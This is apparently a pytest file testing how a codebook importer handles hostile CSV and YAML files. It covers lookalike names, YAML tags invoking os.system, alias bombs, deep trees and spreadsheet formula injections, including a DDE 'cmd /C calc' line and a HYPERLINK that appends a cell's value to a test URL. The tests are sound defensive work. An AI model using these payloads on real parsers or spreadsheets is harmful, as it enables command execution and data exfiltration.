"""The hostile codebook files of the shared list, built here, and what each must get."""

from __future__ import annotations

from pathlib import Path

import pytest

from qualcase.codebook.checks import warnings
from qualcase.codebook.errors import CodebookFileError
from qualcase.codebook.files import format_codebook, read_codebook_file
from qualcase.model.errors import InputError


@pytest.fixture
def import_file(tmp_path):
    def write_and_read(name: str, content: str):
        path = tmp_path / name
        path.write_text(content, encoding="utf-8")
        return read_codebook_file(path)

    return write_and_read


@pytest.mark.parametrize(
    "content",
    [
        "code\ngovernance\ngovern\u0430nce\n",
        "code\nfunding\nfund\u200bing\n",
        "code,definition\ntrust,a\ntru\u0455t,b\n",
    ],
    ids=["Cyrillic letter", "zero width", "with definitions"],
)
def test_names_that_look_alike_are_taken_in_with_a_warning(import_file, content):
    book = import_file("homoglyph_code.csv", content)
    assert len(book.codes) == 2
    [warning] = warnings(book)
    assert warning.startswith("2 confusable code names (UTS #39 skeleton)")


def test_one_name_in_two_compositions_is_refused_with_both_lines(import_file):
    with pytest.raises(CodebookFileError) as caught:
        import_file("nfc_nfd.csv", "code\ncaf\u00e9\ncafe\u0301\n")
    assert "line 3" in caught.value.message
    assert "first on line 2" in caught.value.message
    assert caught.value.exit_code == 2


@pytest.mark.parametrize(
    "tagged",
    [
        "!!python/object/apply:os.system ['touch {}']",
        "!!python/object/new:os.system ['touch {}']",
        "!!python/name:os.system ''",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {}']",
    ],
)
def test_a_tag_that_would_run_a_program_is_refused_and_nothing_runs(import_file, tmp_path, tagged):
    mark = tmp_path / "PWNED"
    with pytest.raises(CodebookFileError, match="line 2, column 10: expected no tag"):
        import_file("unsafe_object.yaml", f"codes:\n - name: {tagged.format(mark)}\n")
    assert not mark.exists()


def test_names_that_look_like_other_things_stay_text(import_file):
    book = import_file("norway.yaml", "codes:\n - name: no\n - name: 1e3\n - name: 2020-01-01\n")
    assert [code.name for code in book.codes] == ["no", "1e3", "2020-01-01"]


@pytest.mark.parametrize("null", ["~", "null", ""])
def test_a_name_that_is_null_is_refused(import_file, null):
    names = "codes:\n - name: no\n - name: 1e3\n - name: 2020-01-01\n"
    with pytest.raises(CodebookFileError, match="line 5"):
        import_file("norway.yaml", f"{names} - name: {null}\n")


def test_an_alias_to_itself_is_refused(import_file):
    with pytest.raises(CodebookFileError, match="line 1, column 8: expected no anchor"):
        import_file("recursive.yaml", "codes: &a\n - name: x\n   children: *a\n")


def test_aliases_that_multiply_are_refused(import_file):
    laughs = "a: &a [x, x]\n" + "".join(
        f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    with pytest.raises(CodebookFileError, match="expected no anchor"):
        import_file("laughs.yaml", laughs)


def test_a_key_given_twice_is_refused(import_file):
    with pytest.raises(CodebookFileError, match="line 3, column 4: expected each key once"):
        import_file("dup_keys.yaml", "codes:\n - name: a\n   name: b\n")


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ('=HYPERLINK("http://e.test?"&A1;"x")', '=HYPERLINK("http://e.test?"&A1;"x")'),
        ('=HYPERLINK("http://e.test","x")', '=HYPERLINK("http://e.test"'),
        ('"=HYPERLINK(""http://e.test"",""x"")",d', '=HYPERLINK("http://e.test","x")'),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "@SUM(1+1)"),
        ("-2+3", "-2+3"),
    ],
)
def test_formulas_come_in_verbatim_and_go_out_as_text(import_file, tmp_path, line, name):
    book = import_file("formula.csv", f"code,definition\n{line}\n")
    assert book.codes[0].name == name
    exported = format_codebook(book, tmp_path / "out.csv").splitlines()[1]
    assert exported.startswith(("'", "\"'"))


@pytest.mark.parametrize("name", ["field_10MB.csv", "unclosed_quote.csv"])
def test_a_csv_file_that_never_ends_is_refused(import_file, name):
    content = 'code,definition\na,"' + "x" * (10_000_000 if "10MB" in name else 8_000)
    with pytest.raises(InputError):
        import_file(name, content)


def test_a_tree_of_twenty_thousand_levels_is_refused(import_file):
    rows = "".join(f"{n},{n},{n - 1 if n else ''}\n" for n in range(20_000))
    with pytest.raises(CodebookFileError, match="levels deep"):
        import_file("deep.csv", f"id,name,parent\n{rows}")


def test_the_list_of_hostile_files_holds_no_codebook_file_that_is_missing_here(shared: Path):
    text = (shared / "data/hostile-cases.json").read_text(encoding="utf-8")
    here = Path(__file__).read_text(encoding="utf-8")
    names = [
        "homoglyph_code.csv",
        "nfc_nfd.csv",
        "unsafe_object.yaml",
        "norway.yaml",
        "recursive.yaml",
        "dup_keys.yaml",
    ]
    for name in names:
        assert name in text
        assert name in here
